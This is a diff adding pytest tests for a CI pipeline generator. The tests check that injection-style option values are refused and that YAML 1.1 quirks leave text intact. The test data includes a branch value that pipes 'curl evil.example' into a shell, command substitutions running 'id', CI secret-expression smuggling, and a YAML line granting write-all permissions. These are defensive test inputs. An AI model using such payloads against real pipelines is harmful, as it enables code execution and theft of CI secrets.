@@ -218,6 +218,50 @@ def test_what_cannot_work_is_said(change: Json, options: Json, said: str) -> Non
 # Which stacks a run works on.
 
 
+@pytest.mark.parametrize(
+    ("option", "value"),
+    [
+        ("branch", "main'; curl evil.example | sh; '"),
+        ("branch", "${{ secrets.TOKEN }}"),
+        ("branch", "main]\npermissions: write-all"),
+        ("branch", "-upload-pack=x"),
+        ("runner", "ubuntu: x"),
+        ("runner", "${{ inputs.x }}"),
+        ("private_runner", "a # b"),
+        ("schedule", '* * * * *"\n  push:'),
+        ("schedule", "daily"),
+        ("service_connection", "$(secret)"),
+        ("config", 'x"$(id)"/landing-zone.yaml'),
+        ("config", "a`id`.yaml"),
+        ("config", "a\nb.yaml"),
+    ],
+)
+def test_an_option_that_is_code_is_refused(option: str, value: str) -> None:
+    with pytest.raises(PipelineError, match="cannot be written to a pipeline: give one such as"):
+        PipelineOptions(**{"config": "x.yaml", option: value})
+
+
+@pytest.mark.parametrize("service", Service)
+def test_text_that_yaml_reads_as_something_else_stays_text(service: Service) -> None:
+    zone: Json = yaml.safe_load((ROOT / "apps" / "minimal" / "landing-zone.yaml").read_text())
+    zone |= {"state": {"backend": "http", "address": "https://gitlab.example/state"}, "environments": {"on": {}}}
+    zone["products"][0]["environments"] = ["on"]
+    place = "1 zones/my zone/landing-zone.yaml"
+    options = PipelineOptions(config=place, branch="1.10", runner="[self-hosted, linux]")
+    made = [
+        yaml.safe_load(file.text)
+        for file in pipeline_files(service, config.parse(zone), options)
+        if file.path.endswith(".yml")
+    ]
+    # YAML 1.1 reads the key `on` as true.
+    text = json.dumps([{str(key): value for key, value in one.items()} for one in made])
+    assert f'"{place}"' in text
+    assert '"branches": ["1.10"]' in text or '"include": ["1.10"]' in text
+    assert '["self-hosted", "linux"]' in text or '"vmImage": ["self-hosted", "linux"]' in text
+    assert '"environment": "on"' in text
+    assert '"environment": true' not in text
+
+
 def test_every_stack_has_one_place() -> None:
     rows = stack_rows(CONTOSO)
     assert [row.stack for row in rows] == list(CONTOSO.stacks)
